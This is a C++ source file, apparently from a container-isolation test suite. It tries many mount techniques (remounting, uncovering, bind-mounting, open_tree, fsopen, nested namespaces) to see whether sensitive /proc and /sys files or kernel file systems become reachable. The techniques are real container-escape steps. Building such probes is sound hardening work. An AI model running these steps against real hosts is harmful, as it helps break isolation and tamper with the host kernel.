// The kernel's file systems: around what covers them, and those that nobody mounted.
#include <dirent.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cstdint>
#include <cstring>

#include "attack/attempt.hpp"
#include "attack/files.hpp"

namespace attack {
namespace {

bool opens(int directory, const char* path, int flags) {
  const File file(openat(directory, path, flags | O_NONBLOCK | O_CLOEXEC));
  struct stat info {};
  return file && fstat(file.get(), &info) == 0 && S_ISREG(info.st_mode);
}

/// What an unprotected /proc gives away.
Outcome strike_proc(int proc) {
  for (const char* path : {"sys/kernel/core_pattern", "sys/kernel/panic", "sysrq-trigger", "mtrr"})
    if (opens(proc, path, O_WRONLY)) return let_through(std::string(path) + " can be written");
  for (const char* path : {"kcore", "keys", "timer_list", "kmsg"})
    // A user namespace sees its own keys only (keyrings(7)).
    if ((in_hosts_user_namespace() || std::strcmp(path, "keys") != 0) && opens(proc, path, O_RDONLY))
      return let_through(std::string(path) + " can be read");
  return refused("nothing gained");
}

Outcome strike_sys(int sys) {
  for (const char* path : {"kernel/rcu_expedited", "kernel/mm/transparent_hugepage/enabled", "kernel/mm/ksm/run",
                           "kernel/profiling", "kernel/uevent_helper", "power/state", "kernel/reboot/mode"})
    if (opens(sys, path, O_WRONLY)) return let_through(std::string(path) + " can be written");
  return refused("nothing gained");
}

using Strike = Outcome (*)(int);

Outcome strike(Strike strike_it, const std::string& path) {
  const File directory(open(path.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC));
  return directory ? strike_it(directory.get()) : refused_errno();
}

struct Target {
  const char* path;
  const char* type;
  Strike strike_it;
};
constexpr Target kProc = {"/proc", "proc", strike_proc}, kSys = {"/sys", "sysfs", strike_sys};

bool is_below(const std::string& path, const std::string& directory) {
  return path == directory || path.rfind(directory + "/", 0) == 0;
}

using Way = std::function<Outcome(const Target&)>;

Outcome as_it_is(const Target& target) {
  return strike(target.strike_it, target.path);
}

Outcome remount_each_writable(const Target& target) {
  for (const Mount& one : mounts())
    if (is_below(one.target, target.path))
      mount(nullptr, one.target.c_str(), nullptr, MS_REMOUNT | MS_BIND | MS_NOSUID | MS_NODEV | MS_NOEXEC, nullptr);
  return strike(target.strike_it, target.path);
}

Outcome set_each_writable(const Target& target) {
  mount_attr change{};
  change.attr_clr = MOUNT_ATTR_RDONLY;
  for (const Mount& one : mounts())
    if (is_below(one.target, target.path))
      syscall(SYS_mount_setattr, AT_FDCWD, one.target.c_str(), 0, &change, sizeof change);
  return strike(target.strike_it, target.path);
}

Outcome remount_super_block(const Target& target) {
  mount(nullptr, target.path, nullptr, MS_REMOUNT | MS_NOSUID | MS_NODEV | MS_NOEXEC, nullptr);
  return strike(target.strike_it, target.path);
}

Outcome reconfigure_super_block(const Target& target) {
  const File context(static_cast<int>(syscall(SYS_fspick, AT_FDCWD, target.path, 0)));
  if (!context) return refused_errno();
  if (syscall(SYS_fsconfig, context.get(), FSCONFIG_SET_FLAG, "rw", nullptr, 0) != 0) return refused_errno();
  if (syscall(SYS_fsconfig, context.get(), FSCONFIG_CMD_RECONFIGURE, nullptr, nullptr, 0) != 0) return refused_errno();
  return strike(target.strike_it, target.path);
}

Outcome unmount_covers(const Target& target) {
  const auto all = mounts();
  for (auto one = all.rbegin(); one != all.rend(); ++one)
    if (is_below(one->target, target.path) && one->target != target.path) umount2(one->target.c_str(), MNT_DETACH);
  return strike(target.strike_it, target.path);
}

Outcome move_covers(const Target& target) {
  const std::string away = new_directory("away");
  for (const Mount& one : mounts())
    if (is_below(one.target, target.path) && one.target != target.path)
      mount(one.target.c_str(), away.c_str(), nullptr, MS_MOVE, nullptr);
  return strike(target.strike_it, target.path);
}

Outcome bind_without_covers(const Target& target) {
  const std::string place = new_directory("bound");
  if (mount(target.path, place.c_str(), nullptr, MS_BIND, nullptr) != 0) return refused_errno();
  mount(nullptr, place.c_str(), nullptr, MS_REMOUNT | MS_BIND, nullptr);
  return strike(target.strike_it, place);
}

Outcome clone_without_covers(const Target& target) {
  const File tree(static_cast<int>(syscall(SYS_open_tree, AT_FDCWD, target.path, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC)));
  if (!tree) return refused_errno();
  mount_attr change{};
  change.attr_clr = MOUNT_ATTR_RDONLY;
  syscall(SYS_mount_setattr, tree.get(), "", AT_EMPTY_PATH, &change, sizeof change);
  return target.strike_it(tree.get());
}

Outcome mount_anew(const Target& target) {
  const std::string place = new_directory("new");
  if (mount("new", place.c_str(), target.type, 0, nullptr) != 0) return refused_errno();
  return strike(target.strike_it, place);
}

Outcome mount_anew_by_descriptor(const Target& target) {
  const File context(static_cast<int>(syscall(SYS_fsopen, target.type, 0)));
  if (!context) return refused_errno();
  if (syscall(SYS_fsconfig, context.get(), FSCONFIG_CMD_CREATE, nullptr, nullptr, 0) != 0) return refused_errno();
  const File made(static_cast<int>(syscall(SYS_fsmount, context.get(), 0, 0)));
  return made ? target.strike_it(made.get()) : refused_errno();
}

Outcome mount_anew_in_nested(const Target& target) {
  return in_nested_user_namespace(CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET, [&] { return mount_anew(target); });
}

Outcome uncover_in_nested(const Target& target) {
  return in_nested_user_namespace(CLONE_NEWNS | CLONE_NEWPID, [&] {
    const Outcome outcome = unmount_covers(target);
    return outcome.kind == Outcome::Kind::LetThrough ? outcome : bind_without_covers(target);
  });
}

std::function<Outcome(const Facts&)> apply(Way way, const Target& target) {
  return [=](const Facts&) {
    leave_mounts_behind();
    return way(target);
  };
}

/// Mounted, and one of its files (or the directory itself) opened with `flags`.
std::function<Outcome(const Facts&)> new_file_system(const char* type, const char* file, int flags,
                                                     const char* options = nullptr) {
  return [=](const Facts&) {
    leave_mounts_behind();
    const std::string place = new_directory(type);
    if (mount("none", place.c_str(), type, 0, options) != 0)
      return errno == ENODEV ? not_there("no such file system") : refused_errno();
    const std::string path = *file ? place + "/" + file : place;
    const File opened(open(path.c_str(), flags | O_NONBLOCK | O_CLOEXEC));
    if (opened) return let_through("mounted, " + path + " opened");
    return errno == ENOENT ? let_through("mounted") : refused_errno();
  };
}

/// One of its own for each user namespace, since Linux 6.7; without one it is the host's.
Outcome register_binary_format(const Facts& facts) {
  return in_hosts_user_namespace() ? new_file_system("binfmt_misc", "register", O_WRONLY)(facts)
                                   : not_there("this user namespace's own");
}

/// The flags it has, so that the host's file system stays as it is.
Outcome remount_root(const Facts&) {
  const auto all = mounts();
  unsigned long flags = MS_REMOUNT;
  for (const Mount& one : all)
    if (one.target == "/" && one.super_options.rfind("ro", 0) == 0) flags |= MS_RDONLY;
  return judge(mount(nullptr, "/", nullptr, flags, nullptr));
}

/// As it is: nothing to set.
Outcome pick_root(const Facts&) {
  const File context(static_cast<int>(syscall(SYS_fspick, AT_FDCWD, "/", 0)));
  if (!context) return refused_errno();
  return judge(syscall(SYS_fsconfig, context.get(), FSCONFIG_CMD_RECONFIGURE, nullptr, nullptr, 0));
}

}  // namespace

Attempts mount_attempts() {
  return {
      {"S3_proc_as_it_is", apply(as_it_is, kProc)},
      {"S1_proc_remount_each", apply(remount_each_writable, kProc)},
      {"proc_mount_setattr_each", apply(set_each_writable, kProc)},
      {"proc_remount_super_block", apply(remount_super_block, kProc)},
      {"proc_fspick", apply(reconfigure_super_block, kProc)},
      {"proc_unmount_covers", apply(unmount_covers, kProc)},
      {"proc_move_covers", apply(move_covers, kProc)},
      {"proc_bind_without_covers", apply(bind_without_covers, kProc)},
      {"proc_open_tree_without_covers", apply(clone_without_covers, kProc)},
      {"proc_mount_anew", apply(mount_anew, kProc)},
      {"proc_fsopen_anew", apply(mount_anew_by_descriptor, kProc)},
      {"proc_mount_anew_nested", apply(mount_anew_in_nested, kProc)},
      {"proc_uncover_nested", apply(uncover_in_nested, kProc)},
      {"sys_as_it_is", apply(as_it_is, kSys)},
      {"S2_sys_remount_each", apply(remount_each_writable, kSys)},
      {"sys_mount_setattr_each", apply(set_each_writable, kSys)},
      {"sys_remount_super_block", apply(remount_super_block, kSys)},
      {"sys_fspick", apply(reconfigure_super_block, kSys)},
      {"sys_bind_without_covers", apply(bind_without_covers, kSys)},
      {"sys_open_tree_without_covers", apply(clone_without_covers, kSys)},
      {"sys_mount_anew", apply(mount_anew, kSys)},
      {"sys_fsopen_anew", apply(mount_anew_by_descriptor, kSys)},
      {"sys_mount_anew_nested", apply(mount_anew_in_nested, kSys)},
      {"mount_debugfs", new_file_system("debugfs", "", O_RDONLY)},
      {"mount_tracefs", new_file_system("tracefs", "trace", O_RDONLY)},
      {"mount_securityfs", new_file_system("securityfs", "", O_RDONLY)},
      {"mount_efivarfs", new_file_system("efivarfs", "", O_RDONLY)},
      {"mount_pstore", new_file_system("pstore", "", O_RDONLY)},
      {"mount_configfs", new_file_system("configfs", "", O_RDONLY)},
      {"mount_fusectl", new_file_system("fusectl", "", O_RDONLY)},
      {"mount_devtmpfs", new_file_system("devtmpfs", "", O_RDONLY)},
      {"mount_binfmt_misc", register_binary_format},
      {"remount_root_super_block", remount_root},
      {"fspick_root", pick_root},
  };
}

}  // namespace attack
